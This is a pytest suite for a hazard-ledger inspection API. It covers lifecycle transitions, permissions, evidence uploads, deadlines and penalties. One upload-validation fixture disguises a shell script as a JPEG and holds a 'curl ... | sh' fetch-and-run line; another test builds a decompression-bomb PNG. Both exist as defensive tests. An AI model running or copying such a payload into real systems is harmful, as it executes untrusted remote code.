"""The hazard ledger through the API: every path of the lifecycle, its guards, its history and events."""

import io
import os
import uuid
from datetime import datetime, timedelta
from functools import partial
from zoneinfo import ZoneInfo

import psycopg2
import pytest
from PIL import Image
from sqlalchemy import text

from services.inspections.hazard.service import check_deadlines
from services.inspections.request_keys.jobs import forget_request_keys
from services.inspections.runtime import runtime as inspections
from shared.auth import Role
from shared.clock import local_today
from shared.db import get_engine
from shared.events.contracts.registry import ProductionStatus
from tests.support.files import pdf, photo
from tests.support.inspections import events_of, known_unit, sql
from tests.support.paging import walk

PNG = photo()
SIX_PARTS = {
    "goals_and_tasks": "消除储罐区泄漏隐患",
    "methods_and_measures": "更换阀门,增设检测报警",
    "funds_and_materials": "资金20万元已落实",
    "responsible_body_and_people": "设备部 张工",
    "time_limit_and_milestones": "30日内完成",
    "safety_and_emergency_measures": "停用储罐,设置警戒,应急预案已备案",
}


def report(api, unit_id, grade="general", who="inspector", role=Role.zone_admin, **extra):
    body = {
        "unit_id": str(unit_id),
        "source": "grid_patrol",
        "category": "消防",
        "grade": grade,
        "location": "二号仓库",
        "description": "灭火器过期",
        **extra,
    }
    return api("POST", "/hazards", who=who, role=role, json=body)


def step(
    api, hazard_id, action, who="inspector", role=Role.zone_admin, enterprise_id=None, grid_ids=None, **body
):
    return api(
        "POST",
        f"/hazards/{hazard_id}/actions/{action}",
        who=who,
        role=role,
        enterprise_id=enterprise_id,
        grid_ids=grid_ids or [],
        json=body,
    )


def evidence(api, hazard_id, who="inspector", content=PNG, name="after.png", tag="after"):
    response = api(
        "POST",
        f"/hazards/{hazard_id}/evidence",
        who=who,
        role=Role.zone_admin,
        files={"file": (name, content)},
        data={"tag": tag},
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


def test_general_hazard_fixed_on_the_spot_then_verified_by_someone_else_and_closed(api, unit):
    hazard = report(api, unit).json()
    assert hazard["state"] == "reported" and "fix_on_spot" in hazard["allowed_actions"]
    no_evidence = step(api, hazard["id"], "fix_on_spot", who="fixer", reason="已更换")
    assert no_evidence.status_code == 422 and no_evidence.json()["errors"][0]["loc"] == "body.evidence_ids"
    photo = evidence(api, hazard["id"], who="fixer")
    fixed = step(api, hazard["id"], "fix_on_spot", who="fixer", reason="已更换灭火器", evidence_ids=[photo])
    assert fixed.json()["state"] == "rectified"
    own = step(api, hazard["id"], "verify", who="fixer", passed=True)
    assert own.status_code == 403 and "rule verify_not_by_fixer" in own.json()["detail"]
    colleague = step(api, hazard["id"], "verify", who="colleague", passed=True)  # the fixer's own office
    assert colleague.status_code == 403 and "rule verify_independent_of_fixer" in colleague.json()["detail"]
    office = {"who": "checker", "role": Role.safety_office}
    assert step(api, hazard["id"], "verify", passed=True, **office).json()["state"] == "verified"
    closed = step(api, hazard["id"], "close", **office)
    assert closed.json()["state"] == "closed" and closed.json()["allowed_actions"] == []
    history = api("GET", f"/hazards/{hazard['id']}/history", role=Role.auditor).json()["items"]
    assert [(h["action"], h["to_state"]) for h in history] == [
        ("report", "reported"),
        ("fix_on_spot", "rectified"),
        ("verify", "verified"),
        ("close", "closed"),
    ]
    assert history[1]["evidence_ids"] == [photo] and history[1]["actor_name"] == "fixer"
    assert events_of(hazard["id"]) == [
        "hazard.reported",
        "hazard.fixed_on_spot",
        "hazard.verified",
        "hazard.closed",
    ]


def test_deadline_rectification_with_a_failed_verification(api, unit):
    hazard = report(api, unit).json()
    today = local_today()
    order = {"responsible_person": "王班长", "measures": "更换线路"}
    past = step(api, hazard["id"], "order_rectification", deadline=str(today - timedelta(days=1)), **order)
    assert past.status_code == 422 and "in the past" in past.json()["detail"]
    far = step(api, hazard["id"], "order_rectification", deadline=str(today + timedelta(days=400)), **order)
    assert far.status_code == 422 and "more than 90 days" in far.json()["detail"]
    missing = step(api, hazard["id"], "order_rectification", deadline=str(today + timedelta(days=7)))
    assert missing.status_code == 422
    assert [(e["loc"], e["type"]) for e in missing.json()["errors"]] == [
        ("body.responsible_person", "missing"),
        ("body.measures", "missing"),
    ]
    ordered = step(api, hazard["id"], "order_rectification", deadline=str(today + timedelta(days=7)), **order)
    assert ordered.json()["state"] == "rectifying" and ordered.json()["deadline"] == str(
        today + timedelta(days=7)
    )
    photo = evidence(api, hazard["id"], who="unit")
    the_unit = {"who": "unit", "role": Role.enterprise_user, "enterprise_id": str(unit)}
    assert (
        step(api, hazard["id"], "mark_rectified", evidence_ids=[photo], **the_unit).json()["state"]
        == "rectified"
    )
    no_deadline = step(api, hazard["id"], "verify", who="checker", passed=False, reason=" ")
    assert no_deadline.status_code == 422 and "required for this step: reason, deadline" in no_deadline.text
    failed = step(
        api,
        hazard["id"],
        "verify",
        who="checker",
        passed=False,
        reason="仍有裸露线头",
        deadline=str(today + timedelta(days=3)),
    )
    assert failed.json()["state"] == "rectifying" and failed.json()["deadline"] == str(
        today + timedelta(days=3)
    )
    step(api, hazard["id"], "mark_rectified", evidence_ids=[photo], **the_unit)
    step(api, hazard["id"], "verify", who="checker", passed=True)
    assert step(api, hazard["id"], "close", who="checker").json()["state"] == "closed"
    assert "hazard.verification_failed" in events_of(hazard["id"])


def test_a_stopped_major_hazard_needs_its_plan_and_the_authoritys_review(api, unit):
    hazard = report(api, unit, grade="major").json()
    assert events_of(hazard["id"]) == ["hazard.reported", "hazard.escalated"]
    on_spot = step(api, hazard["id"], "fix_on_spot", reason="x", evidence_ids=[evidence(api, hazard["id"])])
    assert on_spot.status_code == 409 and "cannot be fixed on the spot" in on_spot.json()["detail"]
    deadline = str(local_today() + timedelta(days=30))
    order = {"deadline": deadline, "responsible_person": "张总", "measures": "停用储罐"}
    no_plan = step(api, hazard["id"], "order_rectification", **order)
    assert no_plan.status_code == 422 and no_plan.json()["errors"][0]["loc"] == "plan"
    partial = step(api, hazard["id"], "order_rectification", plan={"goals_and_tasks": "x"}, **order)
    assert partial.status_code == 422
    assert {e["loc"] for e in partial.json()["errors"]} >= {
        "body.plan.funds_and_materials",
        "body.plan.safety_and_emergency_measures",
    }
    assert step(api, hazard["id"], "order_rectification", plan=SIX_PARTS, **order).json()["plan"] == SIX_PARTS
    cordon = evidence(api, hazard["id"], name="cordon.pdf", content=pdf(), tag="other")
    assert (
        step(api, hazard["id"], "suspend", reason="撤出人员,设置警戒", evidence_ids=[cordon]).json()["state"]
        == "suspended"
    )
    the_unit = {"who": "unit", "role": Role.enterprise_user, "enterprise_id": str(unit)}
    step(api, hazard["id"], "mark_rectified", evidence_ids=[cordon], **the_unit)
    need_evaluation = step(api, hazard["id"], "verify", passed=True)
    assert (
        need_evaluation.status_code == 422
        and "evaluation, restart_applied_on" in need_evaluation.json()["detail"]
    )
    today = local_today()
    evaluated = {"passed": True, "evaluation": "评估合格"}
    future = step(api, hazard["id"], "verify", restart_applied_on=str(today + timedelta(days=1)), **evaluated)
    assert future.status_code == 422 and future.json()["errors"][0]["loc"] == "restart_applied_on"
    applied = today - timedelta(days=10)
    verified = step(api, hazard["id"], "verify", restart_applied_on=str(applied), **evaluated)
    assert verified.json()["state"] == "verified"
    authority = {"who": "office", "role": Role.safety_office}
    ahead = step(api, hazard["id"], "close", authority_review_on=str(today + timedelta(days=1)), **authority)
    assert ahead.status_code == 422 and ahead.json()["errors"][0]["loc"] == "authority_review_on"
    assert "in the future" in ahead.json()["detail"]
    early = step(
        api, hazard["id"], "close", authority_review_on=str(applied - timedelta(days=1)), **authority
    )
    assert early.status_code == 422 and "before the restart application" in early.json()["detail"]
    closed = step(api, hazard["id"], "close", authority_review_on=str(today), **authority)
    assert closed.json()["state"] == "closed" and closed.json()["review_late"] is False
    assert "hazard.review_late" not in events_of(hazard["id"])


def test_refusal_hands_the_hazard_to_enforcement_who_order_rectification(api, unit):
    hazard = report(api, unit).json()
    refused = step(
        api, hazard["id"], "refuse", reason="企业拒不整改", enforcement_owner="区应急管理局执法大队"
    )
    assert (
        refused.json()["state"] == "with_enforcement"
        and refused.json()["enforcement_owner"] == "区应急管理局执法大队"
    )
    by_unit = step(
        api,
        hazard["id"],
        "refuse",
        who="unit",
        role=Role.enterprise_user,
        enterprise_id=str(unit),
        reason="x",
        enforcement_owner="y",
    )
    assert by_unit.status_code == 403 and "refuse needs one of the roles" in by_unit.json()["detail"]
    ordered = step(
        api, hazard["id"], "order_rectification", who="officer", role=Role.enforcement_officer,
        deadline=str(local_today() + timedelta(days=5)), responsible_person="法人", measures="责令整改",
    )  # fmt: skip
    assert ordered.json()["state"] == "rectifying"
    assert "hazard.refused" in events_of(hazard["id"])


def test_a_step_not_allowed_now_is_409_listing_the_allowed_ones(api, unit):
    hazard = report(api, unit).json()
    response = step(api, hazard["id"], "close")
    assert response.status_code == 409
    assert (
        "allowed now: fix_on_spot, order_rectification, suspend, refuse, list_for_supervision, regrade, void"
        in response.json()["detail"]
    )
    unknown = step(api, hazard["id"], "teleport")
    assert unknown.status_code == 422 and [e["loc"] for e in unknown.json()["errors"]] == ["path.action"]
    assert "'fix_on_spot', 'order_rectification', 'suspend'" in unknown.json()["detail"]
    assert "'explain_overdue'" in unknown.json()["detail"]


def test_each_action_names_the_fields_it_is_missing(api, unit):
    hazard = report(api, unit).json()
    refused = step(api, hazard["id"], "refuse", reason="企业拒不整改")
    assert refused.status_code == 422
    assert [e["loc"] for e in refused.json()["errors"]] == ["body.enforcement_owner"]
    assert "enforcement_owner: 必填 / Field required" in refused.json()["detail"]
    blank = step(api, hazard["id"], "suspend", reason="   ", evidence_ids=[str(uuid.uuid4())])
    assert blank.status_code == 422 and [e["loc"] for e in blank.json()["errors"]] == ["body.reason"]
    foreign = step(api, hazard["id"], "suspend", reason="x", evidence_ids=["x"], measures="y")
    assert {e["loc"] for e in foreign.json()["errors"]} == {"body.evidence_ids.0", "body.measures"}
    assert foreign.json()["errors"][-1]["type"] == "extra_forbidden"  # a field another step takes
    other = api(
        "POST", f"/hazards/{hazard['id']}/actions/suspend", role=Role.zone_admin, json={"action": "close"}
    )
    assert other.status_code == 422 and other.json()["errors"][0]["loc"] == "action"
    not_json = api(
        "POST", f"/hazards/{hazard['id']}/actions/close", role=Role.zone_admin, content=b"{", headers={"Content-Type": "application/json"}
    )  # fmt: skip
    assert not_json.status_code == 422 and not_json.json()["errors"][0]["type"] == "json_invalid"
    assert sql("SELECT count(*) FROM inspections.hazard_transition") == 1  # only the report


def test_the_lifecycle_is_listed_and_each_actions_body_is_documented(api):
    from services.inspections.app import app

    lifecycle = api("GET", "/hazards/actions", role=Role.auditor).json()
    assert lifecycle["close"] == {
        "label": "销号 / close out",
        "from": ["verified"],
        "to": "closed",
        "roles": ["enforcement_officer", "grid_member", "leader", "safety_office", "zone_admin"],
        "roles_from": {},
        "major_roles": ["enforcement_officer", "safety_office", "zone_admin"],
    }
    schema = app.openapi()
    operation = schema["paths"]["/hazards/{hazard_id}/actions/{action}"]["post"]
    (action,) = [p for p in operation["parameters"] if p["name"] == "action"]
    assert schema["components"]["schemas"][action["schema"]["$ref"].split("/")[-1]]["enum"] == list(lifecycle)
    body = operation["requestBody"]["content"]["application/json"]["schema"]
    mapping = body["discriminator"]["mapping"]
    assert body["discriminator"]["propertyName"] == "action" and list(mapping) == list(lifecycle)

    def fields(name: str) -> tuple[set[str], set[str]]:
        model = schema["components"]["schemas"][mapping[name].split("/")[-1]]
        return set(model["properties"]) - {"action"}, set(model.get("required", []))

    assert fields("order_rectification") == (
        {"reason", "evidence_ids", "deadline", "responsible_person", "measures", "plan"},
        {"deadline", "responsible_person", "measures"},
    )
    assert fields("fix_on_spot") == ({"reason", "evidence_ids"}, {"reason", "evidence_ids"})
    assert fields("refuse")[1] == {"reason", "enforcement_owner"}
    assert fields("verify")[1] == {"passed"} and "restart_applied_on" in fields("verify")[0]
    assert fields("close") == ({"reason", "evidence_ids", "authority_review_on"}, set())
    assert fields("explain_overdue") == ({"reason", "evidence_ids"}, {"reason"})
    plan = schema["components"]["schemas"]["RectificationPlan"]
    assert set(plan["required"]) == set(SIX_PARTS)


def _keyed_report(unit) -> dict[str, str]:
    """The report a phone sends, and may send again, with its Idempotency-Key."""
    return {
        "unit_id": str(unit),
        "source": "grid_patrol",
        "category": "用电",
        "grade": "general",
        "location": "配电房",
        "description": "线路老化",
    }


def test_the_same_idempotency_key_gives_the_same_hazard(api, unit):
    headers = {"Idempotency-Key": "phone-42-report-7"}
    body = _keyed_report(unit)
    first = api("POST", "/hazards", who="admin", role=Role.zone_admin, json=body, headers=headers)
    again = api("POST", "/hazards", who="admin", role=Role.zone_admin, json=body, headers=headers)
    assert first.status_code == 201 and again.status_code == 200 and again.json()["id"] == first.json()["id"]
    other = api(
        "POST",
        "/hazards",
        who="admin",
        role=Role.zone_admin,
        json={**body, "location": "仓库"},
        headers=headers,
    )
    assert other.status_code == 409 and "different request" in other.json()["detail"]
    assert sql("SELECT count(*) FROM inspections.hazard") == 1


def test_idempotency_keys_are_forgotten_after_their_days(api, unit):
    """A key is kept REQUEST_KEY_DAYS (30): a resend within them gives the first hazard, one after
    them (the key forgotten by the nightly job) makes a new one."""
    body = _keyed_report(unit)

    def report(key: str):
        return api(
            "POST", "/hazards", who="admin", role=Role.zone_admin, json=body, headers={"Idempotency-Key": key}
        )

    old, recent = report("sent-long-ago").json(), report("sent-lately").json()
    sql(
        "UPDATE inspections.request_key SET created_at = now() - interval '31 days' WHERE key = 'sent-long-ago'"
        " RETURNING key"
    )
    sql(
        "UPDATE inspections.request_key SET created_at = now() - interval '29 days' WHERE key = 'sent-lately'"
        " RETURNING key"
    )
    assert forget_request_keys() == 1
    again = report("sent-lately")
    assert again.status_code == 200 and again.json()["id"] == recent["id"]
    anew = report("sent-long-ago")
    assert anew.status_code == 201 and anew.json()["id"] != old["id"]


# a shell script behind the JPEG magic bytes, 46 bytes in all
SCRIPT_AS_JPEG = b"\xff\xd8\xff\xe0\n#!/bin/sh\ncurl -s http://203.0.113.99|sh\n"


@pytest.mark.parametrize(
    "content, name, message",
    [
        (b"hello, I am text", "photo.jpg", "“photo.jpg”无法读取"),
        (b"hello, I am text", "report.pdf", "only JPEG, PNG, WebP photos or PDF"),
        (SCRIPT_AS_JPEG, "photo.jpg", "“photo.jpg”无法读取"),
        (photo("JPEG")[:-200], "truncated.jpg", "“truncated.jpg”无法读取"),
        (pdf()[:-60], "truncated.pdf", "“truncated.pdf”无法读取"),
        (PNG[:60] + bytes([PNG[60] ^ 0xFF]) + PNG[61:], "corrupt.png", "“corrupt.png”无法读取"),
        (b"", "empty.png", "the file is empty"),
        (PNG + b"\x00" * (10 * 1024 * 1024), "huge.png", "larger than"),
    ],
)
def test_bad_evidence_files_are_refused(api, unit, content, name, message):
    hazard = report(api, unit).json()
    response = api(
        "POST", f"/hazards/{hazard['id']}/evidence", role=Role.zone_admin, files={"file": (name, content)}
    )
    assert response.status_code == 422 and message in response.json()["detail"]
    assert response.json()["errors"][0]["loc"] == "file"
    assert sql("SELECT count(*) FROM inspections.evidence_file") == 0


def test_a_decompression_bomb_is_refused_before_it_is_decoded(api, unit):
    hazard = report(api, unit).json()
    bomb = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(bomb, "PNG")  # a few kB declaring 100 million pixels
    response = api(
        "POST",
        f"/hazards/{hazard['id']}/evidence",
        role=Role.zone_admin,
        files={"file": ("bomb.png", bomb.getvalue())},
    )
    assert response.status_code == 422 and "more than 60000000 pixels" in response.json()["detail"]


def test_evidence_is_listed_and_downloaded_with_its_tag_uploader_and_exif(api, unit):
    hazard = report(api, unit, who="inspector").json()
    taken = datetime(2026, 11, 20, 9, 30, 15)
    before_photo = photo("JPEG", taken=taken, position=(31.8123, 117.3055))
    before = evidence(api, hazard["id"], content=before_photo, name="整改前.jpg", tag="before")
    after = evidence(api, hazard["id"], who="fixer", name="after.png", tag="after")
    plan = api(
        "POST",
        f"/hazards/{hazard['id']}/evidence",
        role=Role.zone_admin,
        files={"file": ("方案.pdf", pdf(2))},
    )
    assert plan.status_code == 201 and plan.json()["tag"] == "other"  # untagged: other
    webp = evidence(api, hazard["id"], content=photo("WEBP"), name="x.webp", tag="after")
    # the ids in an action's body still name the evidence
    fixed = step(api, hazard["id"], "fix_on_spot", who="fixer", reason="已更换", evidence_ids=[after])
    assert fixed.status_code == 200, fixed.text

    listed = walk(partial(api, "GET", f"/hazards/{hazard['id']}/evidence", role=Role.zone_admin), limit=2)
    by_id = {e["id"]: e for e in listed}
    assert {i: (e["tag"], e["content_type"]) for i, e in by_id.items() if i != webp} == {
        before: ("before", "image/jpeg"),
        after: ("after", "image/png"),
        plan.json()["id"]: ("other", "application/pdf"),
    }
    assert by_id[webp]["content_type"] == "image/webp"
    jpeg, png = by_id[before], by_id[after]
    assert datetime.fromisoformat(jpeg["taken_at"]) == taken.replace(tzinfo=ZoneInfo("Asia/Shanghai"))
    assert (jpeg["latitude"], jpeg["longitude"]) == (
        pytest.approx(31.8123, abs=1e-5),
        pytest.approx(117.3055, abs=1e-5),
    )
    assert (png["taken_at"], png["latitude"], png["longitude"]) == (None, None, None)
    assert (jpeg["uploaded_by_name"], png["uploaded_by_name"]) == ("inspector", "fixer")
    assert png["uploaded_by"] != jpeg["uploaded_by"] and jpeg["uploaded_at"] is not None

    download = api("GET", f"/hazards/{hazard['id']}/evidence/{before}", role=Role.zone_admin)
    assert download.status_code == 200 and download.content == before_photo
    logged = api("GET", "/audit", role=Role.auditor, params={"action": "download"}).json()["items"]
    assert [e["target"] for e in logged] == [f"hazard-evidence:{before}"]  # who downloaded it, when
    assert download.headers["content-type"] == "image/jpeg"
    assert (
        download.headers["content-disposition"]
        == "attachment; filename*=UTF-8''%E6%95%B4%E6%94%B9%E5%89%8D.jpg"
    )
    other_hazard = report(api, unit).json()
    assert (
        api("GET", f"/hazards/{other_hazard['id']}/evidence/{before}", role=Role.zone_admin).status_code
        == 404
    )
    wrong_tag = api(
        "POST",
        f"/hazards/{hazard['id']}/evidence",
        role=Role.zone_admin,
        files={"file": ("a.png", PNG)},
        data={"tag": "during"},
    )
    assert wrong_tag.status_code == 422 and wrong_tag.json()["errors"][0]["loc"] == "body.tag"


def test_whoever_may_see_the_hazard_may_see_its_evidence(api, unit):
    hazard = report(api, unit).json()
    photo_id = evidence(api, hazard["id"])
    grid_id = sql("SELECT grid_id FROM inspections.supervised_unit WHERE id = :u", u=unit)
    for role, scope in (
        (Role.enterprise_user, {"enterprise_id": unit}),
        (Role.grid_member, {"grid_ids": [grid_id]}),
        (Role.enterprise_user, {"enterprise_id": uuid.uuid4()}),
        (Role.grid_member, {"grid_ids": [uuid.uuid4()]}),
        (Role.auditor, {}),
    ):
        seen = api("GET", f"/hazards/{hazard['id']}", role=role, **scope).status_code
        listed = api("GET", f"/hazards/{hazard['id']}/evidence", role=role, **scope)
        download = api("GET", f"/hazards/{hazard['id']}/evidence/{photo_id}", role=role, **scope)
        assert listed.status_code == download.status_code == seen, (role, scope)
        if seen == 200:
            assert [e["id"] for e in listed.json()["items"]] == [photo_id] and download.content == PNG


def test_who_may_report_and_act_where(api, unit):
    grid_id = sql("SELECT grid_id FROM inspections.supervised_unit WHERE id = :u", u=unit)
    assert report(api, uuid.uuid4()).status_code == 422  # unknown unit
    closed_unit = known_unit(status=ProductionStatus.closed)
    assert "closed" in report(api, closed_unit).json()["detail"]
    outsider = report(api, unit, who="m", role=Role.grid_member)
    assert outsider.status_code == 403 and "own grids" in outsider.json()["detail"]
    member = api("POST", "/hazards", who="m", role=Role.grid_member, grid_ids=[str(grid_id)], json={
        "unit_id": str(unit), "source": "grid_patrol", "category": "消防", "grade": "general", "location": "x", "description": "y"})  # fmt: skip
    assert member.status_code == 201
    other_unit = known_unit()
    foreign = api("POST", "/hazards", who="e", role=Role.enterprise_user, enterprise_id=str(other_unit), json={
        "unit_id": str(unit), "source": "self_report", "category": "消防", "grade": "general", "location": "x", "description": "y"})  # fmt: skip
    assert foreign.status_code == 403
    foreign_step = step(
        api,
        member.json()["id"],
        "suspend",
        who="e",
        role=Role.enterprise_user,
        enterprise_id=str(other_unit),
        reason="x",
        evidence_ids=[str(uuid.uuid4())],  # a complete body: refused for who asks, not for what
    )
    assert foreign_step.status_code == 403
    auditor = step(
        api, member.json()["id"], "refuse", who="a", role=Role.auditor, reason="x", enforcement_owner="y"
    )
    assert auditor.status_code == 403
    assert api("GET", "/hazards", who="a", role=Role.auditor).json()["items"][0]["id"] == member.json()["id"]


@pytest.mark.committed  # the trigger is tried from a connection of its own
def test_history_cannot_be_edited(api, unit):
    report(api, unit)
    dsn = os.environ["DATABASE_URL"].replace("postgresql+psycopg2://", "postgresql://")
    conn = psycopg2.connect(dsn)
    try:
        with pytest.raises(psycopg2.errors.RaiseException, match="append-only"):
            conn.cursor().execute("UPDATE inspections.hazard_transition SET reason = 'rewritten'")
        conn.rollback()
        with pytest.raises(psycopg2.errors.RaiseException, match="append-only"):
            conn.cursor().execute("DELETE FROM inspections.hazard_transition")
    finally:
        conn.close()


def test_deadline_events_are_emitted_once_however_often_the_check_runs(api, unit, workers):
    from services.scheduler import celery_app as scheduler
    from tests.support.processes import wait_until

    hazard = report(api, unit).json()
    step(
        api,
        hazard["id"],
        "order_rectification",
        deadline=str(local_today() + timedelta(days=1)),
        responsible_person="x",
        measures="y",
    )

    def finished_runs() -> int:
        log = workers["inspections"].log_text()
        return sum("hazards.deadlines_checked" in line for line in log.splitlines())  # the job's own line

    before = finished_runs()
    for _ in range(3):  # the scheduler may fire again and again
        scheduler.send_task("inspections.check_hazard_deadlines", queue="inspections")
    # all three runs finish (one emits, two find nothing), so none holds the row below
    wait_until(lambda: finished_runs() == before + 3)
    assert events_of(hazard["id"]).count("hazard.due_soon") == 1
    with inspections.transaction() as session:  # the clock moves past the deadline
        assert check_deadlines(session, local_today() + timedelta(days=2)) == {"due_soon": 0, "overdue": 1}
    with inspections.transaction() as session:
        assert check_deadlines(session, local_today() + timedelta(days=3)) == {"due_soon": 0, "overdue": 0}
    assert events_of(hazard["id"]).count("hazard.overdue") == 1
    overdue = api("GET", "/hazards", role=Role.zone_admin, params={"overdue": True}).json()["items"]
    assert [h["id"] for h in overdue] == [hazard["id"]] and overdue[0]["state"] == "rectifying"
    explained = step(api, hazard["id"], "explain_overdue", reason="配件未到货,预计下周完成")
    assert explained.json()["overdue_explanation"] == "配件未到货,预计下周完成"


def test_pages_cover_the_ledger_once(api, unit):
    ids = {report(api, unit).json()["id"] for _ in range(7)}
    seen = [h["id"] for h in walk(partial(api, "GET", "/hazards", role=Role.zone_admin), limit=3)]
    assert sorted(seen) == sorted(ids)


def test_hazards_reported_in_the_same_instant_are_each_listed_once(api, unit):
    ids = {report(api, unit).json()["id"] for _ in range(8)}
    with get_engine(os.environ["DATABASE_URL"]).begin() as conn:
        conn.execute(text("UPDATE inspections.hazard SET reported_at = '2026-11-02 09:00:00+08'"))
    seen = [h["id"] for h in walk(partial(api, "GET", "/hazards", role=Role.zone_admin), limit=3)]
    assert len(seen) == len(set(seen)) and set(seen) == ids
    # filters keep their meaning across pages
    later = walk(
        partial(api, "GET", "/hazards", role=Role.zone_admin),
        limit=2,
        reported_from="2026-11-02T09:00:00+08:00",
        grade="general",
    )
    assert {h["id"] for h in later} == ids
    assert walk(partial(api, "GET", "/hazards", role=Role.zone_admin), limit=2, grade="major") == []


def test_the_ledger_sorts_by_report_or_deadline_and_finds_what_falls_due(api, unit):
    today = local_today()
    ids = [report(api, unit).json()["id"] for _ in range(4)]
    for hazard_id, days in zip(ids[:3], (9, 2, 5), strict=True):
        order = {
            "deadline": str(today + timedelta(days=days)),
            "responsible_person": "李",
            "measures": "更换",
        }
        assert step(api, hazard_id, "order_rectification", **order).status_code == 200
    ledger = partial(api, "GET", "/hazards", role=Role.zone_admin)
    assert [h["id"] for h in walk(ledger, limit=2, sort="oldest")] == ids
    assert [h["id"] for h in walk(ledger, limit=2)] == ids[::-1]
    # by deadline: the soonest first, only hazards that have one
    assert [h["id"] for h in walk(ledger, limit=2, sort="deadline")] == [ids[1], ids[2], ids[0]]
    due = walk(ledger, limit=2, due_by=str(today + timedelta(days=5)), sort="deadline")
    assert [h["id"] for h in due] == [ids[1], ids[2]]
    assert ledger(params={"sort": "sideways"}).status_code == 422
    assert ledger(params={"due_by": "tomorrow"}).status_code == 422


def test_three_major_hazard_penalties_in_180_days_flag_a_repeat_offender_once(api, unit):
    today = local_today()
    major = [report(api, unit, grade="major").json()["id"] for _ in range(4)]
    general = report(api, unit).json()["id"]

    def penalise(hazard_id, days_ago, number, role=Role.enforcement_officer):
        body = {"decided_on": str(today - timedelta(days=days_ago)), "decision_number": number}
        return api("POST", f"/hazards/{hazard_id}/penalties", who="officer", role=role, json=body)

    assert penalise(general, 1, "罚-0").status_code == 409  # only major hazards count
    assert penalise(major[0], 1, "罚-x", role=Role.grid_member).status_code == 403
    assert penalise(major[0], -1, "罚-future").status_code == 422
    assert penalise(major[0], 300, "罚-1").json()["penalties_180_days"] == 0  # outside the 180-day window
    assert penalise(major[1], 100, "罚-2").json()["repeat_offender"] is False
    assert penalise(major[1], 100, "罚-2").status_code == 409  # the same decision twice
    third = penalise(major[2], 50, "罚-3").json()
    assert (third["penalties_180_days"], third["penalties_365_days"], third["repeat_offender"]) == (
        2,
        3,
        False,
    )
    fourth = penalise(major[3], 10, "罚-4").json()
    assert fourth["repeat_offender"] is True and fourth["penalties_180_days"] == 3
    assert sql("SELECT count(*) FROM inspections.outbox WHERE event_type = 'hazard.repeat_offender'") == 1
    summary = api("GET", f"/units/{unit}/penalties", role=Role.auditor).json()
    assert summary["repeat_offender"] is True and summary["penalties_365_days"] == 4
